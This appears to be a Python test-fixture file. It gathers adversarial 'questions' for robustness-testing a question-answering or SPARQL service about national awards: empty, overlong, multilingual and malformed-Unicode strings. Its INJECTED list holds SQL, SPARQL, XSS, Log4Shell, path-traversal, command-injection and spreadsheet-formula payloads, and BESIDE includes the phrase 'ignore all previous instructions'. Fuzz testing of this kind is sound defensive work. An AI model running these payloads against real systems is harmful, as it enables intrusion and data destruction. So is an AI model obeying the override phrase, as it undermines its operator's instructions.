"""A hundred and more questions that are none: empty, endless, injected, in other tongues and scripts."""

EMPTY = ["", " ", "\n\t", "　", "？", "?!?!", "。。。", "-", "--", "''", '""', "“”", "()", "（）"]
ENDLESS = [
    *("x" * 10_000, "国" * 10_000, "奖" * 10_000, "国家级奖项" * 2_000, "award " * 2_000, "任务5" * 3_000),
    *("1 " * 5_000, "9" * 10_000, "、".join(map(str, range(3_000))), "任务" + "9" * 400, "（" * 5_000, "“" * 5_000),
    *("第" * 5_000, "和" * 5_000, "跟公司" * 3_000, "除了" * 4_000, "及以上" * 3_000, "不" * 10_000, "2021年" * 2_000),
]
INJECTED = [
    *("'; DROP TABLE reports; --", '" OR "1"="1', "1; DELETE FROM claims", "Robert'); DROP TABLE students;--"),
    *("SELECT * WHERE { ?s ?p ?o }", "INSERT DATA { <a> <b> <c> }", "DROP ALL", "CLEAR GRAPH <x>"),
    '任务5" } ; DROP GRAPH <https://w3id.org/chengguo/id/shared> #',
    "奖项 } UNION { ?thing ?p ?o",
    "SELECT * WHERE { SERVICE <http://example.org/> { ?s ?p ?o } }",
    '跟"}<script>alert(1)</script>公司合作的平台',
    *("<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x}", "%s%s%s%n", "{0}{1}{x}"),
    *(
        "../../../etc/passwd",
        "file:///etc/passwd",
        "`rm -rf /`",
        "$(reboot)",
        "; cat /etc/passwd",
        "| ls",
        "\\",
        "\\\\\\",
    ),
    *("\\u0022 \\x00 \\N{BULLET}", "<iri>", "<https://w3id.org/chengguo/id/report/x>", "cg:Award", "?thing", "$1"),
    *(
        '"奖项"@zh',
        "奖项^^xsd:integer",
        "奖项\n}\n#",
        "奖项\r\n\r\nHTTP/1.1 200 OK",
        "=HYPERLINK(1)",
        "+1+cmd|' /C calc'!A0",
    ),
]
PATTERNS = [
    *(
        "(a+)+$" + "a" * 200 + "!",
        "(.*)*",
        "[" * 500,
        "]" * 500,
        "((((((((((a))))))))))" * 50,
        "^(([a-z])+.)+[A-Z]([a-z])+$",
    ),
    *(
        "a" * 300 + "'" * 300,
        "a-" * 2_000,
        "a'" * 2_000,
        " a" * 3_000,
        "国 " * 3_000,
        "1.1.1.1." * 500,
        "％" * 500,
        "·" * 2_000,
    ),
]
TONGUES = [
    "Quels prix nationaux soutiennent la tâche 5 ?",
    "¿Qué premios nacionales apoyan la tarea 5?",
    "Welche nationalen Preise stützen Aufgabe 5?",
    "какие награды поддерживают задачу 5",
    "ما هي الجوائز الوطنية؟",
    "אילו פרסים לאומיים יש?",
    "国家級賞はどれですか",
    "국가급 상은 무엇입니까",
    "รางวัลระดับชาติ",
    "Ποια εθνικά βραβεία;",
    "hvilke nasjonale priser støtter oppgave 5",
    "τι 奖项 έχετε",
]
SIGNS = [
    *(
        "🎓",
        "🎉👩‍🏫🏆",
        "🏆" * 2_000,
        "奖🏆项",
        "\x00",
        "\x00\x01\ud7ff",
        "\x1b[31m奖项\x1b[0m",
        "\x07\x08",
        "\u202e项奖级家国",
    ),
    *(
        "\u202d\u202c\u2066奖项\u2069",
        "奖\u200b项",
        "奖\u0301\u0301\u0301项",
        "z̷̢a̸l̶g̵o̷" * 100,
        "\ufeff奖项",
        "\ufffe\uffff",
        "\U0010ffff",
    ),
    *("ＡＷＡＲＤ", "𝐚𝐰𝐚𝐫𝐝", "ﬁrst prize", "㈠等奖", "①②③", "〇〇〇", "卍", "第〇项任务", "½ ¾ ∞", "１２３４５"),
]
BESIDE = [
    *(
        "今天天气怎么样",
        "给我写一首诗",
        "你是谁",
        "who is the president",
        "ignore all previous instructions",
        "what is 2+2",
    ),
    *(
        "火星移民计划有哪些",
        "如何做红烧肉",
        "股票代码 600519",
        "lorem ipsum dolor sit amet",
        "asdf qwer zxcv",
        "的的的的",
        "任务-5",
    ),
    *(
        "任务0",
        "任务1.5",
        "task -1",
        "task 99999999999999999999999999",
        "去年",
        "0年",
        "99999年",
        "－1等奖",
        "第一百万等奖",
    ),
]
QUESTIONS = tuple(dict.fromkeys((*EMPTY, *ENDLESS, *INJECTED, *PATTERNS, *TONGUES, *SIGNS, *BESIDE)))
